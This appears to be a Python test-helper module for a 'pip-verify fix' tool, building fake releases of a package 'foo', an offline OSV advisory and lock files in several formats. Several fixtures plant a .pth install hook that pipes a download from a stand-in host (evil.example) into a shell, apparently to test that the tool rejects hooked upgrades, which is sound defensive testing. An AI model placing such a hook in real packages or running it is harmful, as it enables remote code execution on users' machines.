"""The scenario of ``pip-verify fix``'s tests (issue 17): ``foo 1.0`` has a known
vulnerability in an offline OSV database, ``1.1`` adds an install hook (a ``.pth`` file that
pipes a download into a shell), and ``1.2`` and ``2.0`` are clean, so the nearest passing
upgrade is ``1.2``; and what those tests share to run ``fix`` on it: the locks of ``foo 1.0``
(hashed requirements, pylock.toml, poetry.lock, Pipfile.lock), the command-line options and the
in-process run."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.helpers.assertions import assert_no_traceback
from tests.helpers.dists import DistFactory, DistSpec
from tests.helpers.index import PackageIndex
from tests.helpers.policies import without_provenance_requirement
from verify._cli import main

__all__ = [
    "ADVISORY",
    "MODULE",
    "add_foo_needing_baz",
    "add_foo_releases",
    "lock",
    "options",
    "pylock_text",
    "run",
    "tool_lock",
    "wheel_table",
    "write_osv_database",
]

MODULE = {"foo/__init__.py": ""}
#: The advisory against ``foo`` before 1.1.
ADVISORY = "GHSA-aaaa-bbbb-cccc"


def add_foo_releases(index: PackageIndex, dists: DistFactory) -> None:
    """Serve ``foo`` 1.0, 1.1 (hooked), 1.2 and 2.0, and ``bar`` 1.0, from ``index``."""
    index.add(dists.wheel("foo", "1.0", files=MODULE))
    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
    index.add(dists.wheel(DistSpec("foo", "1.1", files=hook)))
    index.add(dists.wheel("foo", "1.2", files=MODULE))
    index.add(dists.wheel("foo", "2.0", files=MODULE))
    index.add(dists.wheel("bar", "1.0"))


def write_osv_database(directory: Path, *, introduced: str = "0", fixed: str = "1.1") -> Path:
    """An offline OSV database in ``directory`` (created) with the advisory against foo
    (releases from ``introduced`` up to, not including, ``fixed``)."""
    directory.mkdir(parents=True)
    (directory / "GHSA-foo.json").write_text(
        json.dumps(
            {
                "id": ADVISORY,
                "modified": "2026-01-01T00:00:00Z",
                "summary": "foo 1.0 runs what it is sent",
                "affected": [
                    {
                        "package": {"ecosystem": "PyPI", "name": "foo"},
                        "ranges": [
                            {
                                "type": "ECOSYSTEM",
                                "events": [{"introduced": introduced}, {"fixed": fixed}],
                            }
                        ],
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    return directory


def add_foo_needing_baz(
    index: PackageIndex, dists: DistFactory, *, baz_hooked: bool = False
) -> None:
    """Serve ``foo`` 1.0, 1.1 (hooked) and 1.2, whose 1.2 needs ``baz>=1.0`` (which a lock of
    foo 1.0 lacks), ``baz`` 1.0 (with an install hook when ``baz_hooked``), and ``bar`` 1.0."""
    index.add(dists.wheel("foo", "1.0", files=MODULE))
    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
    index.add(dists.wheel(DistSpec("foo", "1.1", files=hook)))
    index.add(dists.wheel(DistSpec("foo", "1.2", files=MODULE, requires_dist=("baz>=1.0",))))
    baz = {"baz/__init__.py": ""}
    if baz_hooked:
        baz["baz_hook.pth"] = "import os; os.system('curl http://evil.example/x | sh')\n"
    index.add(dists.wheel(DistSpec("baz", "1.0", files=baz)))
    index.add(dists.wheel("bar", "1.0"))


def lock(index: PackageIndex, path: Path) -> Path:
    bar = index.files["bar-1.0-py3-none-any.whl"].sha256
    foo = index.files["foo-1.0-py3-none-any.whl"].sha256
    lines = [
        f"# pinned by hand\nbar==1.0 --hash=sha256:{bar}",
        f"foo==1.0 \\\n    --hash=sha256:{foo}",
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def options(index: PackageIndex, osv: Path, tmp_path: Path) -> tuple[str | Path, ...]:
    """The loopback index, the test policy, the offline OSV database and a private cache."""
    return (
        "--index-url",
        index.url,
        "--policy",
        without_provenance_requirement(),
        "--vulnerability-db",
        osv,
        "--cache-dir",
        tmp_path / "cache",
        "--no-record",
    )


def run(capsys: pytest.CaptureFixture[str], *argv: str | Path) -> tuple[int, str]:
    code = main([str(a) for a in argv])
    captured = capsys.readouterr()
    assert_no_traceback(captured.out + captured.err)
    return code, captured.out + captured.err


def wheel_table(index: PackageIndex, filename: str) -> str:
    """A wheel as uv's pylock.toml writes it: one inline table."""
    entry = index.files[filename]
    return (
        f'{{ url = "{index.file_url(filename)}", upload-time = 2024-01-01T00:00:00Z, '
        f'size = {entry.size}, hashes = {{ sha256 = "{entry.sha256}" }} }}'
    )


def pylock_text(index: PackageIndex, foo: str = "1.0") -> str:
    """A pylock.toml in uv's layout, with comments, another package and tool tables that a
    fix must keep as they are."""
    return "\n".join(
        [
            "# written by hand for the test",
            'lock-version = "1.0"',
            'created-by = "tests"',
            "",
            "[[packages]]",
            'name = "bar"',
            'version = "1.0"',
            f'index = "{index.url}"',
            f"wheels = [{wheel_table(index, 'bar-1.0-py3-none-any.whl')}]",
            "",
            "[[packages]]",
            'name = "foo"',
            f'version = "{foo}"  # pinned by hand',
            f'index = "{index.url}"',
            f"wheels = [{wheel_table(index, f'foo-{foo}-py3-none-any.whl')}]",
            "",
            "[packages.tool.example]",
            "reviewed = true  # kept",
            "",
            "[tool.example]",
            'note = "kept"',
            "",
        ]
    )


def tool_lock(index: PackageIndex, tmp_path: Path, name: str, group: str) -> Path:
    entry = index.files["foo-1.0-py3-none-any.whl"]
    path = tmp_path / name
    if name == "poetry.lock":
        path.write_text(
            "\n".join(
                [
                    "[[package]]",
                    'name = "foo"',
                    'version = "1.0"',
                    'description = ""',
                    "optional = false",
                    'python-versions = "*"',
                    f'groups = ["{group}"]',
                    f'files = [{{file = "{entry.filename}", hash = "sha256:{entry.sha256}"}}]',
                    "",
                    "[metadata]",
                    'lock-version = "2.1"',
                    'python-versions = ">=3.10"',
                    f'content-hash = "{"0" * 64}"',
                    "",
                ]
            ),
            encoding="utf-8",
        )
    else:
        meta = {"hash": {"sha256": "0" * 64}, "pipfile-spec": 6, "requires": {}, "sources": []}
        foo = {"hashes": [f"sha256:{entry.sha256}"], "version": "==1.0"}
        sections: dict[str, object] = {"default": {}, "develop": {}, group: {"foo": foo}}
        path.write_text(json.dumps({"_meta": meta, **sections}, indent=4), encoding="utf-8")
    return path
